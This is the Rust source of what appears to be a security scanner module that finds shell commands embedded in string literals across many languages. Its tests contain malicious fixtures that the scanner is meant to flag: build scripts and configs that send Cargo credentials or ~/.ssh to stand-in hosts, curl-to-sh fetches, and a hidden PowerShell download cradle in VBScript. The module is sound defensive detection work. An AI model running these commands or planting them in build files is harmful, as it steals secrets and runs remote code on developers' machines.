//! Shell command lines held in string literals of code the scanner has no
//! tokenizer for (Rust, Go, Java, Kotlin, Gradle, C#, PHP, Lua, R, Elixir,
//! Swift, Scala, Dart, Groovy, VBScript, C): the literal a shell is run
//! with (`Command::new("sh").arg("-c").arg(format!("cat … | curl …"))`,
//! `exec.Command("bash", "-c", "…")`, `System.cmd("sh", ["-c", "…"])`) or
//! a call that hands its string to a shell (`os.execute("…")`,
//! `shell_exec("…")`, `system("…")`, `Runtime.getRuntime().exec("…")`,
//! VBScript's `.Run "…"`) is read as the shell reads it. A build script
//! (`build.rs`, a Gradle script) runs on every build; what its shell line
//! does is what the build does.
//!
//! One finite automaton over the file; a literal ends at its line's end
//! and is read only up to [`MAX`] bytes: linear.

use std::sync::LazyLock;

use regex::Regex;

use crate::ctx::{Ctx, Unit};
use crate::shell::Mode;

/// The longest literal read.
const MAX: usize = 2000;

/// File name endings of the code read here.
const ENDINGS: &[&str] = &[
    ".rs", ".go", ".java", ".kt", ".kts", ".gradle", ".cs", ".php", ".lua", ".r", ".ex", ".exs",
    ".swift", ".scala", ".dart", ".groovy", ".vbs", ".c", ".cc", ".cpp", ".zig", ".nim", ".jl",
    ".cr", ".d", ".v", ".hx", ".ml", ".fs", ".clj", ".toml",
];

/// `"-c"` then, through calls and brackets (`).arg(format!(`, `, [`), a
/// double-quoted literal; or a call that runs its string in a shell, then
/// the literal.
static LITERAL: LazyLock<Regex> = LazyLock::new(|| {
    crate::text::regex(
        r#"(?:["']-c["'][\s,)\].]{0,24}(?:[A-Za-z_][\w:.]{0,30}!?\s*\(\s*\[?\s*){0,3}|\b(?:os\.execute|shell_exec|passthru|popen|system|Runtime\.getRuntime\(\)\.exec)\s*\(\s*|\.Run\s*\(?\s*)"((?:[^"\\\n]|\\.|"")+)""#,
    )
    .expect("the shell literal pattern is valid")
});

/// Whether the file at `path` (lowercase) is code read here.
pub(crate) fn reads(path: &str) -> bool {
    ENDINGS.iter().any(|e| path.ends_with(e))
}

/// Reads every shell line the code's strings hold.
pub(crate) fn scan(ctx: &mut Ctx<'_>, unit: &Unit<'_>) {
    for caps in LITERAL.captures_iter(unit.text) {
        let Some(literal) = caps.get(1) else {
            continue;
        };
        if literal.len() > MAX || literal.len() < 4 {
            continue;
        }
        let line = unescape(literal.as_str());
        ctx.shell(&unit.derived(&line, literal.start()), Mode::Code);
    }
}

/// A C-family string literal's text: `\"`, `\\`, `\n`, `\t` undone, and
/// BASIC's doubled `""`.
fn unescape(literal: &str) -> String {
    let mut out = String::with_capacity(literal.len());
    let mut chars = literal.chars();
    while let Some(c) = chars.next() {
        if c == '"' {
            // Only `""` is inside a literal: one quote.
            chars.next();
            out.push('"');
            continue;
        }
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('n') => out.push('\n'),
            Some('t') => out.push('\t'),
            Some(other) => out.push(other),
            None => {}
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use crate::rule::Severity;

    fn worst(path: &str, code: &str) -> Option<Severity> {
        crate::tests::scan_text(path, code)
            .iter()
            .map(|f| f.severity)
            .max()
    }

    #[test]
    fn a_shell_line_in_a_build_script_or_other_code() {
        for (path, code) in [
            (
                "template/build.rs",
                "use std::process::Command;\nfn main() {\n    let home = std::env::var(\"HOME\").unwrap_or_default();\n    let _ = Command::new(\"sh\")\n        .arg(\"-c\")\n        .arg(format!(\"cat {home}/.cargo/credentials.toml | curl -s --data-binary @- https://stats.example/b\"))\n        .status();\n}\n",
            ),
            (
                "cmd/main.go",
                "package main\nimport \"os/exec\"\nfunc main() { exec.Command(\"bash\", \"-c\", \"curl -s http://203.0.113.7/p | sh\").Run() }\n",
            ),
            (
                "build.zig",
                "const prep = b.addSystemCommand(&.{ \"sh\", \"-c\", \"curl -s http://203.0.113.144/zb | sh\" });\n",
            ),
            (
                ".cargo/config.toml",
                "[target.x86_64-unknown-linux-gnu]\nrunner = [\"sh\", \"-c\", \"cat ~/.cargo/credentials.toml | curl -s --data-binary @- https://r.example.com/r; exec \\\"$0\\\" \\\"$@\\\"\"]\n",
            ),
            (
                "enable.vbs",
                "CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c \"\"iex (New-Object Net.WebClient).DownloadString('https://m.example.com/m.ps1')\"\"\", 0\n",
            ),
            (
                "init.lua",
                "os.execute(\"tar czf - ~/.ssh | curl -s -T - https://k.example.net/u\")\n",
            ),
        ] {
            assert!(
                worst(path, code).is_some_and(|s| s >= Severity::High),
                "{path}: {:?}",
                crate::tests::scan_text(path, code)
            );
        }
    }

    #[test]
    fn a_harmless_shell_line_in_code_is_no_finding() {
        for (path, code) in [
            (
                "build.rs",
                "fn main() { Command::new(\"sh\").arg(\"-c\").arg(\"git rev-parse HEAD > rev.txt\").status().ok(); }\n",
            ),
            (
                "main.go",
                "exec.Command(\"sh\", \"-c\", \"go vet ./... | tee vet.log\").Run()\n",
            ),
        ] {
            assert!(
                worst(path, code).is_none_or(|s| s < Severity::Medium),
                "{path}: {:?}",
                crate::tests::scan_text(path, code)
            );
        }
    }
}
